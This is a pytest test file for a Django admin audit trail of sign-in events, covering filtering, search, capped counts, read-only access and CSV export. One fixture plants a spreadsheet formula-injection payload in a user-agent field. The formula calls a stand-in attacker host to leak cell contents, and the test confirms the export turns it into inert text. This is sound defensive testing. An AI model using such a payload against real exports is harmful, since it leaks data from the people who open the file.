"""The audit trail in the admin: read-only, filtered by event, user, IP, email and dates, searched by email and
IP, never counting the whole table, and exported as CSV exactly as filtered, formulas defused."""

import csv
import io
from datetime import UTC, datetime

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from audit import events
from audit.admin.counting import COUNT_CAP
from audit.admin.export import as_text
from audit.models import AuthEvent
from audit.record import record
from tests.helpers import make_user

pytestmark = pytest.mark.django_db
LIST = "/admin/audit/authevent/"
EXPORT = "/admin/audit/authevent/export.csv"


def listed_ids(response):
    assert response.status_code == 200, response.get("Location")
    return {event.pk for event in response.context["cl"].result_list}


def export(client, params):
    response = client.get(EXPORT, params)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.streaming and "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def trail(user, rf):
    """A small trail: failed sign-ins from two IPs over three days, a success, and an odd user agent."""
    bob = make_user("bob@example.com")

    def at(day, event, *, ip, who=None, agent="Mozilla/5.0", **details):
        with time_machine.travel(datetime(2026, 11, day, 12, tzinfo=UTC), tick=False):
            return record(event, request=rf.get("/", REMOTE_ADDR=ip, HTTP_USER_AGENT=agent), user=who, **details)

    AuthEvent.objects.all().delete()
    return {
        "a": at(20, events.LOGIN_FAILED, ip="198.51.100.1", who=user, email=user.email),
        "b": at(21, events.LOGIN_FAILED, ip="198.51.100.2", email="ghost@example.com"),
        "c": at(22, events.LOGIN_FAILED, ip="198.51.100.1", who=bob, email=bob.email,
                agent='=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        "d": at(22, events.LOGIN_SUCCEEDED, ip="198.51.100.3", who=user),
        "bob": bob,
    }


def test_filters_by_event_user_ip_email_and_dates(operator_client, trail, user):
    only = {key: event.pk for key, event in trail.items() if key != "bob"}
    failed = {only["a"], only["b"], only["c"]}
    assert listed_ids(operator_client.get(LIST, {"event": events.LOGIN_FAILED})) >= failed
    assert only["d"] not in listed_ids(operator_client.get(LIST, {"event": events.LOGIN_FAILED}))
    assert listed_ids(operator_client.get(LIST, {"user": user.pk})) >= {only["a"], only["d"]}
    assert only["c"] not in listed_ids(operator_client.get(LIST, {"user": user.pk}))
    assert listed_ids(operator_client.get(LIST, {"ip": "198.51.100.1"})) == {only["a"], only["c"]}
    assert listed_ids(operator_client.get(LIST, {"email": "GHOST@example.com"})) == {only["b"]}
    assert listed_ids(operator_client.get(LIST, {"email": "bob@example.com"})) == {only["c"]}
    assert listed_ids(operator_client.get(LIST, {"since": "2026-11-21", "until": "2026-11-21"})) == {only["b"]}
    assert listed_ids(operator_client.get(LIST, {"since": "2026-11-21T12:00:00+00:00", "until": "2026-11-22",
                                              "event": events.LOGIN_FAILED})) == {only["b"], only["c"]}


def test_search_by_email_or_ip(operator_client, trail):
    assert listed_ids(operator_client.get(LIST, {"q": "198.51.100.3"})) == {trail["d"].pk}
    assert listed_ids(operator_client.get(LIST, {"q": " Ghost@Example.com "})) == {trail["b"].pk}


def test_bad_filter_values_are_a_calm_answer_not_an_error(operator_client, trail):
    for params in [{"user": "abc"}, {"ip": "not-an-ip"}, {"since": "yesterday"}, {"until": "2026-13-45"}]:
        response = operator_client.get(LIST, params)
        assert response.status_code == 302 and "e=1" in response["Location"], params


@pytest.mark.parametrize("params", [{}, {"_facets": "True"}, {"event": events.LOGIN_FAILED, "_facets": "True"}])
def test_no_date_hierarchy_and_no_full_table_count(operator_client, trail, params):
    with CaptureQueriesContext(connection) as queries:
        page = operator_client.get(LIST, params)
    assert page.status_code == 200 and page.context["cl"].date_hierarchy is None
    counts = [query["sql"] for query in queries.captured_queries if "COUNT(" in query["sql"].upper()]
    assert all("LIMIT" in sql.upper() for sql in counts), counts  # only capped counts


def test_unfiltered_count_is_the_planners_estimate_once_the_table_is_big(operator_client, trail, monkeypatch):
    monkeypatch.setattr("audit.admin.counting.estimated_rows", lambda model: 2_345_678)
    body = operator_client.get(LIST).content.decode()
    assert "about 2345678 events" in body
    filtered = operator_client.get(LIST, {"event": events.LOGIN_FAILED}).content.decode()
    assert "3 events" in filtered


def test_filtered_count_stops_at_the_cap(operator_client, db, monkeypatch):
    monkeypatch.setattr("audit.admin.counting.COUNT_CAP", 5)
    for _ in range(7):
        record(events.LOGIN_FAILED, email="x@example.com")
    assert "more than 5 events" in operator_client.get(LIST, {"event": events.LOGIN_FAILED}).content.decode()
    assert COUNT_CAP == 10_000


def test_csv_export_has_exactly_the_filtered_rows_and_is_audited(operator_client, operator, trail):
    rows = export(operator_client, {"event": events.LOGIN_FAILED, "ip": "198.51.100.1"})
    header, body = rows[0], rows[1:]
    assert header == ["time (UTC)", "event", "user", "ip", "user agent", "details"]
    assert [(row[1], row[2], row[3]) for row in body] == [
        (events.LOGIN_FAILED, "bob@example.com", "198.51.100.1"),
        (events.LOGIN_FAILED, "alice@example.com", "198.51.100.1"),
    ]
    exported = AuthEvent.objects.get(event=events.AUDIT_EXPORTED)
    assert exported.details["actor"] == operator.email and "198.51.100.1" in exported.details["filters"]


def test_csv_export_turns_formulas_into_text(operator_client, trail):
    rows = export(operator_client, {"ip": "198.51.100.1", "event": events.LOGIN_FAILED})
    agent = rows[1][4]
    assert agent == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    for dangerous in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]:
        assert as_text(dangerous) == "'" + dangerous
    assert as_text("alice@example.com") == "alice@example.com"


def test_csv_export_of_a_search(operator_client, trail):
    rows = export(operator_client, {"q": "ghost@example.com"})
    assert len(rows) == 2 and rows[1][3] == "198.51.100.2"


def test_csv_export_needs_view_permission(client, trail):
    from tests.admin_console.helpers import signed_in_staff, support_member

    staff = signed_in_staff(support_member())
    assert staff.get(EXPORT).status_code == 403
    assert staff.get(LIST).status_code == 403


def test_the_trail_is_read_only(operator_client, trail):
    event = trail["a"]
    assert operator_client.post(f"{LIST}{event.pk}/change/", {"event": "x"}).status_code == 403
    assert operator_client.post(f"{LIST}{event.pk}/delete/", {"post": "yes"}).status_code == 403
    assert operator_client.get(f"{LIST}add/").status_code == 403
    assert AuthEvent.objects.filter(pk=event.pk, event=events.LOGIN_FAILED).exists()


def test_date_quick_choices_are_offered(operator_client, trail):
    body = operator_client.get(LIST).content.decode()
    assert "Last 24 hours" in body and 'name="since"' in body and 'name="until"' in body
